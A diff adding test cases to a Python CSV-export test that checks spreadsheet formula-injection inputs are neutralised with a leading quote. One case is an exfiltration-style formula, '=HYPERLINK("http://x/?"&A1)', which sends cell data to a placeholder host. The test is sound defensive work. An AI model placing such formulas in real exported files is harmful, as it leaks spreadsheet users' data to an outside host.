@@ -157,6 +157,15 @@ def test_export_streams_records_one_at_a_time(tmp_path: Path, monkeypatch: pytes
         ({"é": 1}, '{"é": 1}'),
         ("text", "text"),
         (None, None),
+        # Text a spreadsheet would run as a formula is neutralised; numbers stay numbers.
+        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
+        ("+1-555", "'+1-555"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        (["=1+1", "b"], "'=1+1; b"),
+        (-3, -3),
+        ("a=b", "a=b"),
     ],
 )
 def test_csv_cells(value: object, cell: object) -> None:
